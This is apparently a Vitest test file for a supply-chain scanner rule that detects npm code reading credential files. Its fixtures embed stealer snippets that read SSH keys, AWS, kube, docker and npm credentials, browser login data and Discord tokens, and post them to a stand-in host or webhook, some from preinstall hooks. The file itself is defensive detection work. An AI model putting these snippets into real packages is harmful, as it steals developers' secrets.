import { describe, expect, test } from 'vitest';
import { manifest, scanFiles } from '../test/helpers/analyze.js';
import { expectAtMostLow, finding } from '../test/helpers/findings.js';

const RULE = 'credential-files';

describe('credential-files reports', () => {
  test('~/.ssh/id_rsa through path.join(os.homedir(), ...) posted out is high and malicious', () => {
    const r = scanFiles({
      'index.js': "const fs = require('fs'); const os = require('os'); const path = require('path');\nconst key = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8');\nrequire('https').request({ hostname: 'collector.invalid', method: 'POST' }).end(key);",
    });
    expect(r.of(RULE)).toContainEqual(finding('high', ['source:credential-file'], { line: 2, message: expect.stringContaining('~/.ssh/id_rsa') }));
    expect(r.verdict).toBe('malicious');
  });

  test('ESM readFile of `${homedir()}/.aws/credentials` sent to a Slack webhook is malicious', () => {
    const r = scanFiles({
      'package.json': manifest({ main: 'index.mjs' }),
      'index.mjs': "import { readFile } from 'node:fs/promises';\nimport { homedir } from 'node:os';\nconst creds = await readFile(`${homedir()}/.aws/credentials`, 'utf8');\nawait fetch('https://hooks.slack.com/services/T0000/B0000/XXXXXXXX', { method: 'POST', body: JSON.stringify({ text: creds }) });",
    });
    expect(r.of(RULE)).toContainEqual(finding('high', ['source:credential-file'], { message: expect.stringContaining('~/.aws/credentials') }));
    expect(r.verdict).toBe('malicious');
  });

  test('destructured fs.promises reading ~/.ssh/id_ed25519 is high and malicious with fetch', () => {
    const r = scanFiles({
      'index.js': "const { promises: fsp } = require('fs');\nconst os = require('os');\nfsp.readFile(os.homedir() + '/.ssh/id_ed25519').then((k) => fetch('https://collector.invalid', { method: 'POST', body: k }));",
    });
    expect(r.of(RULE)).toContainEqual(finding('high', ['source:credential-file'], { message: expect.stringContaining('~/.ssh/id_ed25519') }));
    expect(r.verdict).toBe('malicious');
  });

  test.each([
    ["path.join(os.homedir(), '.kube', 'config')", 'Kubernetes config'],
    ["path.join(os.homedir(), '.docker', 'config.json')", 'Docker registry credentials'],
    ["path.join(os.homedir(), '.config', 'gcloud', 'application_default_credentials.json')", 'Google Cloud credentials'],
    ["os.homedir() + '/.git-credentials'", 'git credential store'],
    ["path.join(os.homedir(), '.netrc')", '.netrc credentials'],
  ])('reading %s is a high %s read', (expr, label) => {
    const r = scanFiles({ 'index.js': `const fs = require('fs'); const os = require('os'); const path = require('path');\nexports.k = fs.readFileSync(${expr}, 'utf8');` });
    expect(r.of(RULE)).toContainEqual(finding('high', ['source:credential-file'], { message: expect.stringContaining(label) }));
  });

  test('copying Chrome "Login Data" found through LOCALAPPDATA is a high browser-profile read', () => {
    const r = scanFiles({
      'index.js': "const fs = require('fs'); const path = require('path');\nconst db = path.join(process.env.LOCALAPPDATA, 'Google', 'Chrome', 'User Data', 'Default', 'Login Data');\nfs.copyFileSync(db, 'tmp.db');",
    });
    expect(r.of(RULE)).toContainEqual(finding('high', ['source:credential-file'], { message: expect.stringContaining('Login Data') }));
  });

  test('reading the Discord leveldb token store is high', () => {
    const r = scanFiles({
      'index.js': "const fs = require('fs'); const path = require('path');\nconst dir = path.join(process.env.APPDATA, 'discord', 'Local Storage', 'leveldb');\nfor (const f of fs.readdirSync(dir)) { exports[f] = fs.readFileSync(path.join(dir, f), 'utf8'); }",
    });
    expect(r.of(RULE)).toContainEqual(finding('high', ['source:credential-file'], { message: expect.stringContaining('leveldb') }));
  });

  test('a list of credential targets is reported path by path, even when not read directly', () => {
    const r = scanFiles({
      'index.js': "module.exports = ['.ssh/id_rsa', '.aws/credentials', '.kube/config', '.docker/config.json', '.git-credentials'];",
    });
    const labels = r.of(RULE).map((f) => f.message);
    expect(labels).toHaveLength(5);
    for (const f of r.of(RULE)) expect(f).toEqual(finding('medium', ['source:credential-file']));
  });

  test('~/.npmrc read by an install script is reported with install reach', () => {
    const r = scanFiles({
      'package.json': manifest({ scripts: { preinstall: 'node i.js' } }),
      'i.js': "const fs = require('fs');\nconst os = require('os');\nconst rc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\nrequire('https').get('https://collector.invalid/n?d=' + encodeURIComponent(rc));",
    });
    expect(r.of(RULE)).toContainEqual(finding('medium', ['source:credential-file'], { reach: 'install', message: expect.stringContaining('~/.npmrc') }));
  });

  test('stealing ~/.npmrc at install time is malicious', () => {
    const r = scanFiles({
      'package.json': manifest({ scripts: { preinstall: 'node i.js' } }),
      'i.js': "const fs = require('fs');\nconst os = require('os');\nconst rc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\nrequire('https').get('https://collector.invalid/n?d=' + encodeURIComponent(rc));",
    });
    expect(r.verdict).toBe('malicious');
  });

  test('`${process.env.HOME}/.npmrc` resolves to ~/.npmrc', () => {
    const r = scanFiles({ 'index.js': "const fs = require('fs');\nmodule.exports = () => fs.readFileSync(`${process.env.HOME}/.npmrc`, 'utf8');" });
    expect(r.of(RULE)).toContainEqual(finding('medium', ['source:credential-file'], { message: expect.stringContaining('~/.npmrc') }));
  });

  test('a loop over credential targets that reads and posts them is malicious', () => {
    const r = scanFiles({
      'index.js': "const fs = require('fs'); const os = require('os'); const path = require('path');\nconst targets = ['.ssh/id_rsa', '.aws/credentials', '.kube/config'];\nconst loot = {};\nfor (const t of targets) { const p = path.join(os.homedir(), t); if (fs.existsSync(p)) loot[t] = fs.readFileSync(p, 'utf8'); }\nrequire('https').request({ hostname: 'collector.invalid', method: 'POST' }).end(JSON.stringify(loot));",
    });
    expect(r.verdict).toBe('malicious');
  });
});

describe('credential-files stays quiet', () => {
  const dotenvLike = {
    'index.js': "const fs = require('fs');\nconst path = require('path');\nexports.config = function () {\n  const file = path.resolve(process.cwd(), '.env');\n  if (!fs.existsSync(file)) return { parsed: {} };\n  return { parsed: parse(fs.readFileSync(file, 'utf8')) };\n};\nfunction parse(src) { const o = {}; for (const l of src.split('\\n')) { const i = l.indexOf('='); if (i > 0) o[l.slice(0, i).trim()] = l.slice(i + 1).trim(); } return o; }",
  };

  test('a dotenv-like loader reading .env in the working directory is clean', () => {
    const r = scanFiles(dotenvLike);
    expect(r.verdict).toBe('clean');
  });

  test('a dotenv-like loader reading .env in the working directory stays at most low', () => {
    const r = scanFiles(dotenvLike);
    expectAtMostLow(r.of(RULE));
  });

  test('reading a bundled template next to the module', () => {
    const r = scanFiles({ 'index.js': "const fs = require('fs');\nconst path = require('path');\nmodule.exports = () => fs.readFileSync(path.join(__dirname, 'templates', 'default.txt'), 'utf8').replace('{{cwd}}', process.cwd());" });
    expect(r.stats.parsedFiles).toBe(1);
    expect(r.of(RULE)).toEqual([]);
    expect(r.verdict).toBe('clean');
  });

  test("reading the tool's own config under ~/.config", () => {
    const r = scanFiles({ 'index.js': "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nmodule.exports = () => fs.readFileSync(path.join(os.homedir(), '.config', 'mytool', 'settings.json'), 'utf8');" });
    expect(r.of(RULE)).toEqual([]);
    expect(r.verdict).toBe('clean');
  });

  test('reading a path the caller passes in', () => {
    const r = scanFiles({ 'index.js': "const fs = require('fs');\nmodule.exports = (p = process.argv[2]) => fs.readFileSync(p, 'utf8').split('\\n');" });
    expect(r.stats.parsedFiles).toBe(1);
    expect(r.of(RULE)).toEqual([]);
    expect(r.verdict).toBe('clean');
  });

  test('prose about private keys is not a credential path', () => {
    const r = scanFiles({ 'index.js': "const fs = require('fs');\nmodule.exports = { help: 'Add your public key to the server; never share your private key.', read: (f) => fs.readFileSync(f || process.argv[2]) };" });
    expect(r.stats.parsedFiles).toBe(1);
    expect(r.of(RULE)).toEqual([]);
    expect(r.verdict).toBe('clean');
  });
});
